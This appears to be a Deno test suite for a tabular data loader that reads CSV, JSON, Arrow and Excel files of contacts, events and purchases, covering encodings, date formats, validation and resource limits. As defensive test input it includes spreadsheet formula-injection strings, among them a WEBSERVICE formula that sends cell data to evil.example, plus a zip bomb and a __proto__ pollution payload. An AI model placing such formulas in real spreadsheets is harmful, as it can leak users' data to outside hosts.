import assert from "node:assert/strict";
import { LoadError, type LoadOptions, loadTable, type TableKind } from "../../src/data/mod.ts";

const DATA = new URL("../testdata/", import.meta.url).pathname;

interface Case {
  file: string;
  kind?: TableKind;
  options?: LoadOptions;
  /** Rows that must load. */
  loaded?: number;
  /** Exact rejects: row, column, a piece of the reason. */
  rejects?: [number, string | null, string][];
  /** Whole-file failure: a piece of the LoadError message. */
  error?: RegExp;
  warnings?: RegExp[];
  check?: (rows: Record<string, unknown>[]) => void;
}

const utc = Date.UTC;

// Every expected value below was worked out by hand from the file's text.
const CASES: Case[] = [
  {
    file: "comma_basic.csv",
    loaded: 3,
    rejects: [],
    check: (rows) => {
      assert.deepEqual(rows.map((r) => r.contact_id), ["0042", "+0043", "0044"]);
      assert.equal(rows[0].ts, utc(2024, 0, 15, 10));
      assert.equal(rows[2].ts, utc(2024, 0, 17));
      assert.equal(rows[0].url, "https://shop.example/pricing");
      assert.equal(rows[1].url, null);
    },
  },
  {
    file: "semicolon.csv",
    loaded: 3,
    rejects: [],
    check: (rows) => assert.deepEqual(rows.map((r) => r.value), [1.5, 2, null]),
  },
  {
    file: "tab.tsv",
    loaded: 2,
    rejects: [],
    check: (rows) => assert.equal(rows[1].type, "form_submit"),
  },
  {
    file: "pipe.csv",
    loaded: 3,
    rejects: [],
    check: (rows) => assert.equal(rows[0].phrase, "loans, cheap"),
  },
  {
    file: "wrong_delimiter_row.csv",
    loaded: 3,
    rejects: [[3, null, "Row has 1 field but the header has 3"]],
  },
  {
    file: "mixed_delimiters.csv",
    loaded: 3,
    rejects: [[4, null, "Row has 5 fields but the header has 4"], [6, null, "5 fields"]],
  },
  {
    file: "quoted_newline.csv",
    loaded: 3,
    rejects: [[4, "ts", 'Cannot read "not-a-date" as a timestamp']],
    check: (rows) => {
      assert.equal(rows[0].phrase, "two\nlines");
      assert.equal(rows[1].phrase, 'say "hi"');
    },
  },
  {
    file: "broken_quote.csv",
    loaded: 3,
    rejects: [[3, null, "Unterminated quoted field"]],
    check: (rows) => assert.deepEqual(rows.map((r) => r.contact_id), ["1", "3", "4"]),
  },
  {
    file: "extra_fields.csv",
    loaded: 1,
    rejects: [[3, null, "Row has 5 fields but the header has 4"]],
  },
  {
    file: "cp1251.csv",
    loaded: 2,
    rejects: [],
    warnings: [/not UTF-8; read as Windows-1251/],
    check: (rows) => {
      assert.deepEqual(rows.map((r) => r.type), ["Звонок", "Письмо"]);
      assert.equal(rows[0].ts, utc(2024, 1, 1, 10));
    },
  },
  {
    file: "mixed_encoding.csv",
    loaded: 3,
    rejects: [],
    warnings: [
      /Mixed encodings: 1 line\(s\) .* Windows-1251 \(line 3\); the other lines were read as UTF-8/,
    ],
    check: (rows) => assert.deepEqual(rows.map((r) => r.type), ["звонок", "письмо", "встреча"]),
  },
  {
    file: "bom.csv",
    loaded: 1,
    rejects: [],
    check: (rows) => assert.equal(rows[0].contact_id, "7"),
  },
  { file: "utf16.csv", error: /"[^"]*utf16\.csv": The file is UTF-16; save it as UTF-8/ },
  {
    file: "crlf.csv",
    loaded: 2,
    rejects: [],
    check: (rows) => assert.deepEqual(rows.map((r) => r.type), ["visit", "call"]),
  },
  {
    file: "trailing_delimiter.csv",
    loaded: 2,
    rejects: [],
    warnings: [/Column 4 has no header name and no values/],
    check: (rows) => assert.deepEqual(Object.keys(rows[0]), ["contact_id", "ts", "type"]),
  },
  {
    file: "blank_lines.csv",
    loaded: 2,
    rejects: [[7, "ts", 'Cannot read "bad"']],
    warnings: [/3 blank row\(s\) skipped/],
  },
  {
    file: "missing_column.csv",
    error:
      /missing_column\.csv": required column "ts" not found\. Columns in the file: "contact_id", "timestmp", "type"\. Likely candidates for "ts": "timestmp"/,
  },
  {
    file: "duplicate_columns.csv",
    error: /duplicate_columns\.csv": column "TS" appears twice in the header \(columns 2 and 4\)/,
  },
  {
    file: "russian_headers.csv",
    kind: "contacts",
    loaded: 2,
    rejects: [],
    check: (rows) => {
      assert.deepEqual(rows[0], {
        contact_id: "0001",
        phone: "79161234567",
        email: "ivan@example.ru",
        gender: "m",
        age: 35,
        interests: ["кредиты", "вклады"],
      });
      assert.equal(rows[1].phone, "79167654321");
      assert.equal(rows[1].interests, null);
    },
  },
  {
    file: "polish_headers.csv",
    kind: "contacts",
    options: { defaultCountry: "48" },
    loaded: 2,
    rejects: [],
    check: (rows) => {
      assert.deepEqual(rows.map((r) => r.phone), ["48501234567", "48601000111"]);
      assert.deepEqual(rows.map((r) => r.gender), ["f", "m"]);
      assert.equal(rows[0].email, "anna@example.pl");
    },
  },
  {
    file: "polish_headers.csv",
    kind: "contacts",
    loaded: 1,
    rejects: [[2, "telefon", 'Phone "501 234 567" has 9 digits']],
  },
  {
    file: "bad_dates.csv",
    loaded: 1,
    rejects: [
      [2, "ts", 'Timestamp "2024-02-30" has day 30, not in 2024-02'],
      [3, "ts", 'Cannot read "yesterday" as a timestamp'],
      [4, "ts", 'Timestamp "32.01.2024" has day 32'],
      [6, "ts", "ts is empty"],
    ],
    check: (rows) => assert.equal(rows[0].ts, utc(2024, 1, 29)),
  },
  {
    file: "ambiguous_dates.csv",
    loaded: 2,
    rejects: [],
    warnings: [/"ts": dates like "01\/02\/2024" are ambiguous .* read as day\/month\/year/],
    check: (rows) =>
      assert.deepEqual(rows.map((r) => r.ts), [utc(2024, 1, 1), utc(2024, 3, 3, 10, 30)]),
  },
  {
    file: "ambiguous_dates.csv",
    options: { dateOrder: "mdy" },
    loaded: 2,
    rejects: [],
    check: (rows) =>
      assert.deepEqual(rows.map((r) => r.ts), [utc(2024, 0, 2), utc(2024, 2, 4, 10, 30)]),
  },
  {
    file: "day_first_dates.csv",
    loaded: 3,
    rejects: [],
    warnings: [/day\/month\/year \(decided by "25\/02\/2024" in row 3\)/],
    check: (rows) =>
      assert.deepEqual(rows.map((r) => r.ts), [
        utc(2024, 1, 1),
        utc(2024, 1, 25),
        utc(2024, 1, 3, 14),
      ]),
  },
  {
    file: "month_first_dates.csv",
    loaded: 2,
    rejects: [[
      4,
      "ts",
      'Date "26/02/2024" is day-first but the column is month-first (from "02/25/2024 9:15 PM" in row 3)',
    ]],
    check: (rows) =>
      assert.deepEqual(rows.map((r) => r.ts), [utc(2024, 0, 2), utc(2024, 1, 25, 21, 15)]),
  },
  {
    file: "dotted_dates.csv",
    loaded: 3,
    rejects: [],
    check: (rows) =>
      assert.deepEqual(rows.map((r) => r.ts), [
        utc(2024, 2, 5),
        utc(2024, 2, 5, 14, 7),
        utc(2024, 2, 5, 14, 7, 9),
      ]),
  },
  {
    // Moscow is UTC+3 all year since 2014.
    file: "dotted_dates.csv",
    options: { timezone: "Europe/Moscow" },
    loaded: 3,
    check: (rows) => assert.equal(rows[1].ts, utc(2024, 2, 5, 11, 7)),
  },
  {
    // Warsaw: CET (UTC+1) on 5 March.
    file: "dotted_dates.csv",
    options: { timezone: "Europe/Warsaw" },
    loaded: 3,
    check: (rows) => assert.equal(rows[0].ts, utc(2024, 2, 4, 23)),
  },
  {
    file: "unix_seconds.csv",
    loaded: 2,
    check: (rows) =>
      assert.deepEqual(rows.map((r) => r.ts), [utc(2024, 0, 1), utc(2024, 0, 1) + 500]),
  },
  {
    file: "unix_ms.csv",
    loaded: 2,
    check: (rows) =>
      assert.deepEqual(rows.map((r) => r.ts), [utc(2024, 0, 1), utc(2024, 0, 1) + 123]),
  },
  {
    file: "excel_serial.csv",
    loaded: 2,
    rejects: [[
      4,
      "ts",
      'Number "20000000.5" is neither an Excel serial date, Unix seconds nor Unix milliseconds',
    ]],
    // 45292 is 2024-01-01; .75 of a day is 18:00.
    check: (rows) =>
      assert.deepEqual(rows.map((r) => r.ts), [utc(2024, 0, 1), utc(2024, 0, 1, 18)]),
  },
  {
    file: "iso_offsets.csv",
    loaded: 4,
    check: (rows) =>
      assert.deepEqual(rows.map((r) => r.ts), [
        utc(2024, 0, 1),
        utc(2024, 0, 1),
        utc(2024, 0, 1),
        utc(2024, 0, 1) + 250,
      ]),
  },
  {
    file: "duplicate_ids_contacts.csv",
    kind: "contacts",
    loaded: 2,
    rejects: [[4, "contact_id", 'Duplicate contact_id "0042" (first in row 2)']],
  },
  {
    file: "duplicate_rows_events.csv",
    loaded: 3,
    rejects: [],
    warnings: [/1 row\(s\) repeat an earlier row exactly; loaded as they are/],
  },
  {
    file: "formula_cells.csv",
    loaded: 2,
    rejects: [],
    check: (rows) => {
      assert.equal(rows[0].contact_id, "=1+1");
      assert.equal(rows[0].url, '=HYPERLINK("http://evil.example","click")');
      assert.equal(rows[1].contact_id, "@SUM(A1)");
      assert.equal(rows[1].url, "+cmd");
    },
  },
  {
    file: "phones.csv",
    kind: "contacts",
    loaded: 4,
    rejects: [
      [5, "phone", 'Phone "12345" has 5 digits'],
      [6, "phone", 'Phone "call me" has characters other than digits'],
    ],
    check: (rows) =>
      assert.deepEqual(rows.map((r) => r.phone), [
        "79161234567",
        "79161234567",
        "442079460958",
        "79161234567",
      ]),
  },
  {
    file: "spreadsheet_ids.csv",
    kind: "contacts",
    loaded: 2,
    rejects: [
      [
        4,
        "contact_id",
        'contact_id "7.91612E+10" is a number a spreadsheet shortened to scientific notation',
      ],
      [5, "phone", 'phone "7.91612E+10" is a number a spreadsheet shortened'],
    ],
    check: (rows) => {
      assert.deepEqual(rows.map((r) => r.contact_id), ["0042", "0043"]);
      assert.deepEqual(rows.map((r) => r.phone), ["79161234567", "79161234567"]);
    },
  },
  {
    file: "date_time_columns.csv",
    loaded: 3,
    rejects: [],
    check: (rows) =>
      assert.deepEqual(rows.map((r) => r.ts), [
        utc(2024, 2, 5, 14, 7),
        utc(2024, 2, 6),
        utc(2024, 2, 7, 9, 30, 15),
      ]),
  },
  {
    file: "date_time_cells.xlsx",
    loaded: 2,
    rejects: [],
    check: (rows) => {
      assert.deepEqual(rows.map((r) => r.ts), [utc(2024, 2, 5, 12), utc(2024, 2, 6)]);
      assert.deepEqual(rows.map((r) => r.type), ["wizyta", "telefon"]);
    },
  },
  {
    file: "emails.csv",
    kind: "contacts",
    loaded: 3,
    rejects: [
      [4, "email", '"no-at-sign.example.com" is not an e-mail address'],
      [5, "email", '"two@@example.com" is not an e-mail address'],
    ],
    check: (rows) =>
      assert.deepEqual(rows.map((r) => r.email), ["anna@example.com", "bob@example.org", null]),
  },
  {
    file: "ages_genders.csv",
    kind: "contacts",
    loaded: 3,
    rejects: [[5, "age", 'Age "abc" is not a number'], [6, "age", "Age 200 is outside 0-150"]],
    check: (rows) => {
      assert.deepEqual(rows.map((r) => r.gender), ["f", "m", "x"]);
      assert.deepEqual(rows.map((r) => r.age), [30, 41, null]);
    },
  },
  {
    file: "purchases_amounts.csv",
    kind: "purchases",
    loaded: 2,
    rejects: [[4, "revenue", 'amount "n/a" is not a number']],
    check: (rows) => {
      assert.deepEqual(rows.map((r) => r.amount), [1234.5, 99]);
      assert.deepEqual(rows.map((r) => r.contact_id), ["C1", "C2"]);
      assert.equal(rows[0].ts, utc(2024, 0, 5));
    },
  },
  {
    file: "verification.csv",
    kind: "verification",
    loaded: 2,
    rejects: [[4, null, "Row has none of contact_id, phone, email"]],
    check: (rows) =>
      assert.deepEqual(rows.map((r) => [r.phone, r.email]), [["79161234567", null], [
        null,
        "x@example.com",
      ]]),
  },
  { file: "header_only.csv", loaded: 0, rejects: [], warnings: [/No data rows/] },
  { file: "empty.csv", error: /empty\.csv": the file is empty/ },
  { file: "whitespace_only.csv", error: /whitespace_only\.csv": the file is empty/ },
  {
    file: "events.json",
    loaded: 2,
    rejects: [[3, null, "Expected an object, found an array"]],
    check: (rows) => {
      assert.deepEqual(rows.map((r) => r.contact_id), ["42", "007"]);
      assert.deepEqual(rows.map((r) => r.ts), [utc(2024, 0, 1), utc(2024, 0, 1)]);
      assert.equal(rows[1].extra, true);
    },
  },
  {
    file: "not_array.json",
    error:
      /not_array\.json": the JSON holds an object, not an array of row objects \(its key "rows" holds an array/,
  },
  {
    file: "events_broken.ndjson",
    loaded: 3,
    rejects: [[3, null, "Invalid JSON"]],
    check: (rows) => assert.equal(rows[2].channel, "phone"),
  },
  {
    file: "events.arrow",
    loaded: 3,
    rejects: [],
    // A timestamp column is read as an instant even when small (no magnitude guessing).
    check: (rows) => {
      assert.deepEqual(rows.map((r) => r.ts), [utc(2024, 0, 1), utc(2024, 0, 2), utc(1970, 0, 2)]);
      assert.deepEqual(rows.map((r) => r.value), [1, 2.5, 3]);
    },
  },
  {
    file: "events.parquet",
    error:
      /events\.parquet": Parquet needs the DuckDB parquet extension, which is unavailable offline.*CSV or Arrow/,
  },
  {
    file: "numeric_ids.xlsx",
    kind: "contacts",
    loaded: 3,
    rejects: [],
    check: (rows) => {
      assert.deepEqual(rows.map((r) => r.contact_id), ["000042", "000007", "123456789012345"]);
      assert.deepEqual(rows.map((r) => r.phone), ["79161234567", "79160000000", "447700900123"]);
    },
  },
  {
    file: "several_sheets.xlsx",
    error:
      /several_sheets\.xlsx": required columns "contact_id", "ts", "type" not found\. Columns in the file: "just a note"/,
  },
  {
    file: "several_sheets.xlsx",
    options: { sheet: "Events" },
    loaded: 1,
    rejects: [],
  },
  {
    file: "several_sheets.xlsx",
    kind: "purchases",
    options: { sheet: 3 },
    loaded: 2,
    rejects: [],
    check: (rows) => assert.deepEqual(rows.map((r) => r.amount), [100, 250]),
  },
  {
    file: "several_sheets.xlsx",
    options: { sheet: "Sheet9" },
    error: /several_sheets\.xlsx": no sheet "Sheet9"\. Sheets: "Notes", "Events", "Purchases"/,
  },
  {
    file: "formula.xlsx",
    loaded: 2,
    rejects: [],
    warnings: [/2 formula cell\(s\) .* never evaluated \(first: D2 =HYPERLINK/],
    check: (rows) => {
      assert.equal(rows[0].url, "click");
      assert.equal(rows[1].url, '=WEBSERVICE("http://evil.example/?leak="&A1)');
    },
  },
  {
    file: "excel_dates.xlsx",
    loaded: 2,
    check: (rows) =>
      assert.deepEqual(rows.map((r) => r.ts), [utc(2024, 0, 1, 12), utc(2024, 0, 2)]),
  },
  {
    file: "legacy.xls",
    loaded: 1,
    rejects: [],
    check: (rows) => assert.equal(rows[0].ts, utc(2024, 0, 1)),
  },
  {
    file: "text_named.xlsx",
    loaded: 1,
    warnings: [/named like a spreadsheet but holds text; read as CSV/],
  },
  { file: "handmade.xlsx", loaded: 1, rejects: [] },
  {
    file: "html_table.xls",
    loaded: 2,
    rejects: [],
    check: (rows) => assert.deepEqual(rows.map((r) => r.contact_id), ["0042", "0043"]),
  },
  {
    file: "title_row.xlsx",
    loaded: 2,
    rejects: [],
    warnings: [
      /Header taken from row 3; the 1 row\(s\) above it look like a title and were skipped/,
    ],
    check: (rows) => assert.deepEqual(rows.map((r) => r.type), ["visit", "call"]),
  },
  {
    file: "huge_dimension.xlsx",
    error:
      /Refused "[^"]*huge_dimension\.xlsx": sheet "xl\/worksheets\/sheet1\.xml" declares the range A1:XFD1048576 \(1048576 rows x 16384 columns\), over the 20000000-cell limit/,
  },
  {
    file: "zip_bomb.xlsx",
    error:
      /Refused "[^"]*zip_bomb\.xlsx": entry "xl\/worksheets\/sheet1\.xml" inflates over 200 times its compressed size/,
  },
  {
    file: "truncated.xlsx",
    error: /truncated\.xlsx": not a valid XLSX \(zip directory missing; truncated file\?\)/,
  },
];

for (const c of CASES) {
  const kind = c.kind ?? "events";
  const label = `${c.file}${c.options ? " " + JSON.stringify(c.options) : ""}`;
  Deno.test(`loadTable() reads ${label} as ${kind}`, async () => {
    const path = DATA + c.file;
    if (c.error) {
      const err = await loadTable(kind, path, c.options).then(
        () => assert.fail("expected a LoadError"),
        (e) => e,
      );
      assert.ok(err instanceof LoadError, `expected LoadError, got ${err}`);
      assert.match(err.message, c.error);
      assert.equal(err.file, path);
      return;
    }
    const result = await loadTable(kind, path, c.options);
    const { rows, rejects, summary } = result;
    if (c.loaded !== undefined) assert.equal(rows.length, c.loaded, JSON.stringify(rejects));
    assert.equal(summary.rowsLoaded, rows.length);
    assert.equal(summary.rowsRead, summary.rowsLoaded + summary.rowsRejected);
    assert.equal(summary.rowsRejected, rejects.length);
    if (c.rejects) {
      assert.equal(rejects.length, c.rejects.length, JSON.stringify(rejects));
      c.rejects.forEach(([row, column, reason], i) => {
        assert.equal(rejects[i].file, path);
        assert.equal(rejects[i].row, row, JSON.stringify(rejects[i]));
        assert.equal(rejects[i].column, column, JSON.stringify(rejects[i]));
        assert.ok(rejects[i].reason.includes(reason), `"${rejects[i].reason}" lacks "${reason}"`);
      });
    }
    for (const w of c.warnings ?? []) {
      assert.ok(
        summary.warnings.some((x) => w.test(x)),
        `no warning ${w} in ${JSON.stringify(summary.warnings)}`,
      );
    }
    c.check?.(rows as unknown as Record<string, unknown>[]);
  });
}

Deno.test("loadTable() rejects a 10 MB cell with its size and loads the other rows", async () => {
  const big = "x".repeat(10 * 1024 * 1024);
  const text =
    `contact_id,ts,type,phrase\n1,2024-01-01T00:00:00Z,search,ok\n2,2024-01-02T00:00:00Z,search,"${big}"\n3,2024-01-03T00:00:00Z,search,ok\n`;
  const { rows, rejects } = await loadTable("events", {
    name: "big.csv",
    bytes: new TextEncoder().encode(text),
  });
  assert.deepEqual(rows.map((r) => r.contact_id), ["1", "3"]);
  assert.equal(rejects.length, 1);
  assert.equal(rejects[0].row, 3);
  assert.equal(rejects[0].column, "phrase");
  assert.equal(rejects[0].reason, "Cell has 10485760 characters, over the limit of 1048576");
  assert.ok(rejects[0].value!.length < 200, "the rejected value is shortened");
});

Deno.test("loadTable() hands rows to onRow and keeps none", async () => {
  const seen: string[] = [];
  const { rows, summary } = await loadTable("events", DATA + "comma_basic.csv", {
    onRow: (r) => seen.push(r.contact_id),
  });
  assert.deepEqual(rows, []);
  assert.deepEqual(seen, ["0042", "+0043", "0044"]);
  assert.equal(summary.rowsLoaded, 3);
  assert.deepEqual(summary.eventTypes, { email_click: 1, page_view: 1, purchase: 1 });
  assert.equal(summary.minTs, Date.UTC(2024, 0, 15, 10));
  assert.equal(summary.maxTs, Date.UTC(2024, 0, 17));
});

Deno.test("loadTable() keeps row order when ambiguous dates wait for the deciding value", async () => {
  const text =
    "contact_id,ts,type\na,01/02/2024,x\nb,2024-05-05,x\nc,02/03/2024,x\nd,13/01/2024,x\n";
  const seen: string[] = [];
  const { summary } = await loadTable("events", {
    name: "t.csv",
    bytes: new TextEncoder().encode(text),
  }, {
    onRow: (r) => seen.push(`${r.contact_id}:${new Date(r.ts).toISOString().slice(0, 10)}`),
  });
  assert.deepEqual(seen, ["a:2024-02-01", "b:2024-05-05", "c:2024-03-02", "d:2024-01-13"]);
  assert.equal(summary.rowsLoaded, 4);
});

Deno.test("loadTable() applies an explicit mapping and names a mapped column the file lacks", async () => {
  const bytes = new TextEncoder().encode("who,when,what\n1,2024-01-01,visit\n");
  const { rows, summary } = await loadTable("events", { name: "m.csv", bytes }, {
    mapping: { contact_id: "who", ts: "when", type: "what" },
  });
  assert.deepEqual(rows, [{ contact_id: "1", ts: Date.UTC(2024, 0, 1), type: "visit" }]);
  assert.deepEqual(summary.mapping, { contact_id: "who", ts: "when", type: "what" });
  await assert.rejects(
    loadTable("events", { name: "m.csv", bytes }, { mapping: { ts: "When?" } }),
    (e: Error) =>
      e instanceof LoadError &&
      /mapping ts="When\?" names a column the file does not have. Columns in the file: "who", "when", "what"/
        .test(e.message),
  );
});

Deno.test("loadTable() refuses bad options with RangeError", async () => {
  const bytes = new TextEncoder().encode("contact_id,ts,type\n");
  await assert.rejects(
    loadTable("events", { name: "x.csv", bytes }, { timezone: "Mars/Base" }),
    RangeError,
  );
  await assert.rejects(
    loadTable("events", { name: "x.csv", bytes }, { defaultCountry: "+7" }),
    RangeError,
  );
  await assert.rejects(
    loadTable("events", { name: "x.csv", bytes }, { encoding: "klingon" }),
    RangeError,
  );
});

Deno.test("loadTable() names a missing path in a LoadError", async () => {
  await assert.rejects(
    loadTable("events", DATA + "no_such_file.csv"),
    (e: Error) => e instanceof LoadError && /no_such_file\.csv": file not found/.test(e.message),
  );
});

Deno.test("loadTable() reads a forced encoding", async () => {
  const bytes = await Deno.readFile(DATA + "cp1251.csv");
  const { rows, summary } = await loadTable("events", { name: "cp.csv", bytes }, {
    encoding: "windows-1251",
  });
  assert.equal(rows[0].type, "Звонок");
  assert.deepEqual(summary.warnings, []);
});

Deno.test("loadTable() keeps a __proto__ column as a plain property", async () => {
  const bytes = new TextEncoder().encode('contact_id,__proto__\n1,"{""polluted"":true}"\n');
  const { rows } = await loadTable("contacts", { name: "p.csv", bytes });
  assert.equal(Object.getPrototypeOf(rows[0]), Object.prototype);
  assert.equal(Object.getOwnPropertyDescriptor(rows[0], "__proto__")?.value, '{"polluted":true}');
  assert.equal(({} as Record<string, unknown>).polluted, undefined);
});

Deno.test("loadTable() refuses small numbers as dates", async () => {
  const bytes = new TextEncoder().encode("contact_id,ts,type\n1,2024,visit\n");
  const { rejects } = await loadTable("events", { name: "y.csv", bytes });
  assert.equal(
    rejects[0].reason,
    'Number "2024" is too small for a date (as an Excel serial it would be 1905-07-16)',
  );
});

Deno.test("loadTable() reports progress up to 1 for CSV and spreadsheets", async () => {
  for (const file of ["comma_basic.csv", "formula.xlsx"]) {
    const seen: number[] = [];
    await loadTable("events", DATA + file, { onProgress: (f) => seen.push(f) });
    assert.ok(seen.length > 0, file);
    assert.equal(seen.at(-1), 1, file);
    assert.ok(seen.every((f, i) => f >= 0 && f <= 1 && (i === 0 || f >= seen[i - 1])), file);
  }
});

Deno.test("loadTable() keeps a mapped column when the file has another column of that name", async () => {
  const bytes = new TextEncoder().encode(
    "contact_id,ts,type,channel\n1,2024-01-02T00:00:00Z,page_view,web\n",
  );
  const { rows, summary } = await loadTable("events", { name: "events.csv", bytes }, {
    mapping: { type: "channel" },
  });
  assert.equal(rows[0].type, "web");
  assert.deepEqual(summary.eventTypes, { web: 1 });
  assert.ok(summary.warnings.some((w) => w.includes('Column "type" is not used')));
});

Deno.test("loadTable() keeps thousands of unnamed columns without a quadratic step", async () => {
  // Found by the fuzzer: 1,000 unnamed columns x 1,000 rows took minutes (a list lookup per
  // cell); the values of unnamed columns are kept under column_N.
  const width = 2000;
  const header = "contact_id,ts,type" + ",".repeat(width);
  const row = (i: number) => `${i},2024-01-01,a` + ",x".repeat(width);
  const csv = [header, ...Array.from({ length: 500 }, (_, i) => row(i))].join("\n") + "\n";
  const r = await loadTable("events", { name: "wide.csv", bytes: new TextEncoder().encode(csv) });
  assert.equal(r.summary.rowsLoaded, 500);
  assert.equal((r.rows[0] as Record<string, unknown>)[`column_${width + 3}`], "x");
});

Deno.test("loadTable() reads a Blob a chunk at a time, as it reads the same bytes", async () => {
  // Over two 1 MiB chunks, with a multi-byte character across a chunk boundary.
  const lines = ["contact_id,ts,type,url"];
  for (let i = 0; lines.join("\n").length < 2_500_000; i++) {
    lines.push(`${i},2024-01-0${1 + (i % 9)},page_view,https://x.example/é/${i}`);
  }
  const bytes = new TextEncoder().encode(lines.join("\n") + "\n");
  const fromBytes = await loadTable("events", { name: "e.csv", bytes });
  const fromBlob = await loadTable("events", { name: "e.csv", blob: new Blob([bytes]) });
  assert.deepEqual(fromBlob.rows, fromBytes.rows);
  assert.deepEqual(fromBlob.rejects, fromBytes.rejects);
  assert.equal(fromBlob.summary.rowsLoaded, lines.length - 1);
});
